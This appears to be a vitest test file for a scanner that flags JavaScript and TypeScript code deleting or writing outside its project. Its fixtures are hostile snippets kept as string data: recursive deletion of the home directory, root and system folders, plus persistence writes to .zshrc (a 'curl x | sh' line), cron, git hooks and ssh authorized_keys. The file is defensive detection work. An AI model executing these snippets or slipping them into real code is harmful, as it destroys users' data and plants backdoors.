import { describe, expect, it } from "vitest";
import { rulesFound } from "../check-world.ts";

/** The rule, the file, and what is in it. */
const HIDDEN: readonly (readonly [string, string, string])[] = [
  [
    "js-wide-deletion",
    "src/case.js",
    "import { rm } from 'node:fs/promises';\nawait rm(process.env.HOME, { recursive: true, force: true });",
  ],
  [
    "js-wide-deletion",
    "src/case.js",
    "const fs = require('fs');\nfs.rmdirSync('../..', { recursive: true });",
  ],
  ["js-wide-deletion", "src/case.js", "import { rimraf } from 'rimraf';\nawait rimraf('/');"],
  ["js-wide-deletion", "src/case.js", "import fs from 'fs-extra';\nawait fs.emptyDir(os.homedir());"],
  [
    "js-wide-deletion",
    "src/case.js",
    "import fs from 'fs';\nimport path from 'path';\nfs.rmSync(path.resolve('/'), { recursive: true });",
  ],
  [
    "js-persistent-write",
    "src/case.js",
    "import fs from 'fs';\nfs.appendFileSync(require('os').homedir() + '/.zshrc', 'curl x | sh');",
  ],
  [
    "js-persistent-write",
    "src/case.js",
    "import { writeFile } from 'fs/promises';\nawait writeFile('/etc/cron.d/job', '* * * * * root id');",
  ],
  [
    "js-persistent-write",
    "src/case.js",
    "import fs from 'fs';\nfs.copyFileSync('hook.sh', '.git/hooks/post-checkout');",
  ],
  [
    "js-persistent-write",
    "src/case.js",
    "import fs from 'fs';\nimport { homedir } from 'os';\nimport { join } from 'path';\nfs.appendFileSync(join(homedir(), '.ssh', 'authorized_keys'), key);",
  ],
  [
    "js-wide-deletion",
    "src/case.js",
    "import fs from 'fs';\nfs.rmSync('.git', { recursive: true, force: true });",
  ],
  [
    "js-persistent-write",
    "src/case.js",
    "import fs from 'fs';\nfs.writeFileSync('.vscode/tasks.json', JSON.stringify(tasks));",
  ],
  [
    "js-wide-deletion",
    "src/case.js",
    "import fs from 'fs';\nconst dirs = ['/usr', '/etc'];\ndirs.forEach((d) => fs.rmSync(d, { recursive: true }));",
  ],
  [
    "js-wide-deletion",
    "src/case.js",
    "import fs from 'fs';\nfs.rmSync(process.cwd(), { recursive: true, force: true });",
  ],
  ["js-wide-deletion", "src/case.ts", "Deno.removeSync('/', { recursive: true });"],
];

describe("JavaScript and TypeScript", () => {
  it.each(HIDDEN)(
    "%s is seen where files outside of the project are deleted or written: %s: %s",
    async (rule, path, code) => {
      expect(await rulesFound({}, { [path]: code })).toContain(rule);
    },
  );
});
